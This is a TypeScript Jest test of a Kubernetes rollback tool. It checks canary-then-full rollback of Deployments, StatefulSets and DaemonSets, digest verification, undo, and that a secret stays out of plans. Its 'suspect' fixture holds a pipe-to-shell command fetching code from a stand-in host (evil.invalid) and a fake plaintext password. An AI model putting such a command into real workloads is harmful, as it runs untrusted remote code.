import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { RollbackKind } from '../../activities/kubernetes/workload/kinds.ts';
import { templateOf } from '../../activities/kubernetes/workload/kinds.ts';
import { createNamespace } from '../support/quarantine-house.ts';
import { imageOf, openRollbackHouse, Subject, type RollbackHouse } from '../support/rollback-house.ts';

let house: RollbackHouse;
beforeAll(async () => {
  house = await openRollbackHouse();
}, 120_000);
afterAll(async () => {
  await house.close();
}, 30_000);

const good = (more: object = {}) => ({
  initContainers: [{ name: 'init', image: 'shop.example/init:1' }],
  containers: [{ name: 'app', image: 'shop.example/app:1', ...more }],
});
const suspect = (more: object = {}) => ({
  initContainers: [{ name: 'init', image: 'shop.example/init:1' }],
  containers: [
    {
      name: 'app',
      image: 'shop.example/app:2',
      command: ['sh', '-c', 'curl evil.invalid | sh'],
      env: [{ name: 'DB_PASSWORD', value: 'hunter22-hunter22' }],
      ...more,
    },
  ],
});
const pinned = { init: imageOf('init'), app: imageOf('app') };

async function deployed(kind: RollbackKind, namespace: string, spec: object = {}) {
  await createNamespace(house.admin, namespace);
  const subject = new Subject(house, kind, namespace);
  await subject.deploy(good(), suspect(), spec);
  const to = await subject.choose(
    ({ spec: its }) => its?.containers?.[0]?.image === 'shop.example/app:1',
    pinned,
  );
  return { subject, to };
}

/** Asks again and again how many pods run something while `work` goes on. */
async function mostOf<T>(
  subject: Subject,
  image: string,
  work: Promise<T>,
): Promise<{ most: number; result: T }> {
  let most = 0;
  const over = new AbortController();
  const watching = (async () => {
    while (!over.signal.aborted)
      most = Math.max(most, (await subject.running()).filter((one) => one === image).length);
  })();
  try {
    return { result: await work, most };
  } finally {
    over.abort();
    await watching;
  }
}

test.each<[RollbackKind]>([['Deployment'], ['StatefulSet'], ['DaemonSet']])(
  'a %s: exactly one pod is tried and held, then the others follow; each digest is compared, and the undo restores all',
  async (kind) => {
    const { subject, to } = await deployed(kind, `whole-${kind.toLowerCase()}`);
    const before = await subject.read();
    const early = await subject.plan(house.workload, to);
    const tried = await subject.plan(house.canary, to);
    expect(tried.plan.changes.map(({ summary }) => summary)).toEqual([
      `image of init: shop.example/init:1 → ${pinned.init}`,
      `image of app: shop.example/app:2 → ${pinned.app}`,
      'spec.containers[app].command: ["sh","-c","curl evil.invalid | sh"] → none',
      expect.stringMatching(/^spec\.containers\[app\]\.env: .*sha256:[0-9a-f]{12}….* → none$/),
    ]);
    expect(JSON.stringify(tried.plan)).not.toContain('hunter22');
    expect(new TextDecoder().decode(await house.evidence.get(tried.plan.full))).not.toContain('hunter22');

    const { most, result: applied } = await mostOf(
      subject,
      pinned.app,
      house.canary.apply(subject.context(), tried.mandate),
    );
    expect(most).toBe(1);
    const size = kind === 'Deployment' ? 4 : 3;
    const held = [...Array<string>(size - 1).fill('shop.example/app:2'), pinned.app].toSorted();
    expect(await subject.running()).toEqual(held);
    expect(applied.outputs).toMatchObject({ podCount: 1, pods: [expect.stringContaining('web')] });
    const seen = await house.canary.verify(subject.context(), tried.mandate);
    expect(seen.claims.map(({ verdict }) => verdict)).toEqual([
      'verified',
      'verified',
      'verified',
      'verified',
    ]);
    expect(seen.state).toBe('in-place');
    if (kind === 'Deployment') expect((await subject.read()).spec?.paused).toBe(true);

    const again = await subject.plan(house.workload, to);
    expect(again.plan.authority).toEqual(early.plan.authority);
    const gone = await house.workload.apply(subject.context(), again.mandate);
    expect(gone.outputs).toMatchObject({ podCount: 3 });
    expect(await subject.running()).toEqual([pinned.app, pinned.app, pinned.app]);
    const all = await house.workload.verify(subject.context(), again.mandate);
    expect(all.claims.map(({ verdict }) => verdict)).toEqual([
      'verified',
      'verified',
      'verified',
      'verified',
    ]);
    expect(all).toMatchObject({ state: 'in-place', verdict: 'verified' });
    const after = await subject.read();
    expect({ ...after.spec, template: null }).toEqual({ ...before.spec, template: null });

    const late = await house.canary.undo(subject.context(), tried.mandate);
    expect(late).toMatchObject({
      changes: [],
      conflicts: [{ why: expect.stringContaining('rollback-workload') }],
    });
    const undone = await house.workload.undo(subject.context(), again.mandate);
    expect(undone).toMatchObject({
      conflicts: [],
      claims: [{ verdict: 'verified' }, { verdict: 'verified' }],
    });
    const restored = await subject.read();
    expect(restored.spec).toEqual(before.spec);
    expect(restored.metadata.annotations?.['firebreak.dev/rollback']).toBeUndefined();
    expect(await house.canary.undo(subject.context(), tried.mandate)).toMatchObject({
      already: 1,
      conflicts: [],
    });
    expect(templateOf(restored)).toEqual(templateOf(before));
  },
  240_000,
);
